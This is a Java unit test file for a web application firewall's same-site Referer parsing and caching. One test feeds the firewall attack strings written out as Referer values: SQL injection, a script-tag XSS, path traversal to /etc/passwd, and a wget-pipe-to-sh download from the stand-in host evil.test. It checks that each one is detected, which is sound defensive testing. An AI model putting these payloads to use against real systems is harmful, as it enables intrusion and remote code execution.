package io.requestflow.firewall.waf;

import io.netty.handler.codec.http.DefaultHttpHeaders;
import io.requestflow.engine.http.Request;
import org.junit.jupiter.api.Test;

import java.util.ArrayList;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class SameSiteRefererTest {
    private static List<String> pieces(String referer, String host) {
        List<String> out = new ArrayList<>();
        return SameSiteReferer.split(referer, host, (r, from, to) -> out.add(r.substring(from, to))) ? out : null;
    }

    @Test
    void aSameSiteAddressIsTakenApartLikeATarget() {
        assertThat(pieces("https://shop.test/api/search?q=red+mug&page=2&flag", "shop.test"))
                .containsExactly("https://shop.test", "/api/search", "q", "red+mug", "page", "2", "flag");
        assertThat(pieces("HTTP://Shop.Test:8443/a/b", "shop.test")).containsExactly("HTTP://Shop.Test:8443", "/a/b");
        assertThat(pieces("https://shop.test", "shop.test")).containsExactly("https://shop.test");
        assertThat(pieces("https://shop.test/?=x&&y=", "shop.test")).containsExactly("https://shop.test", "/", "x", "y");
        assertThat(pieces("https://shop.test/s?q=a=b", "shop.test")).as("only the first '=' names")
                .containsExactly("https://shop.test", "/s", "q", "a=b");
    }

    @Test
    void anythingUnusualStaysWhole() {
        assertThat(pieces("https://other.test/a?q=1", "shop.test")).as("another host").isNull();
        assertThat(pieces("https://shop.test.evil/a", "shop.test")).as("a longer host").isNull();
        assertThat(pieces("https://user:pw@shop.test/a", "shop.test")).as("credentials").isNull();
        assertThat(pieces("https://shop.test/a#frag", "shop.test")).as("a fragment").isNull();
        assertThat(pieces("shop.test/a", "shop.test")).as("no scheme").isNull();
        assertThat(pieces("javascript:alert(1)//shop.test", "shop.test")).isNull();
        assertThat(pieces("https://shop.test?q=1", "shop.test")).as("a query straight after the host").isNull();
        assertThat(pieces("https://shop.test/a", "")).as("no Host").isNull();
    }

    @Test
    void anAttackInAPieceIsStillFoundAndCleanPiecesAreRemembered() {
        Waf waf = new Waf(WafConfig.defaults().withAuditLog(""));
        assertThat(ids(waf, "https://shop.test/search?q=1%27%20or%20%271%27%3D%271")).anyMatch(id -> id.startsWith("SQLI"));
        assertThat(ids(waf, "https://shop.test/%3Cscript%3Ealert(1)%3C/script%3E")).anyMatch(id -> id.startsWith("XSS"));
        assertThat(ids(waf, "https://shop.test/x?file=../../../etc/passwd")).anyMatch(id -> id.startsWith("LFI"));
        assertThat(ids(waf, "https://shop.test/x?cmd=1%3Bwget%20http://evil.test/x.sh%20-O-|sh"))
                .anyMatch(id -> id.startsWith("RCE"));

        String first = "https://shop.test/api/search?q=red+mug&page=2";
        assertThat(ids(waf, first)).isEmpty();
        Inspection next = waf.prepare(request("https://shop.test/api/search?q=blue+cup&page=2"));
        // the User-Agent, and the origin, path, both names and the page were seen clean: only the new
        // search words are inspected
        assertThat(next.skippedHeaders()).isEqualTo(6);
        assertThat(next.targets()).filteredOn(t -> t.kind() == Target.Kind.HEADER).extracting(Target::raw)
                .containsExactly("blue+cup");
    }

    private static List<String> ids(Waf waf, String referer) {
        return waf.inspect(request(referer)).matches().stream().map(Match::ruleId).toList();
    }

    private static Request request(String referer) {
        DefaultHttpHeaders h = new DefaultHttpHeaders();
        h.add("host", "shop.test");
        h.add("user-agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0");
        h.add("referer", referer);
        return new Request("GET", "/api/products", h, new byte[0], null);
    }
}
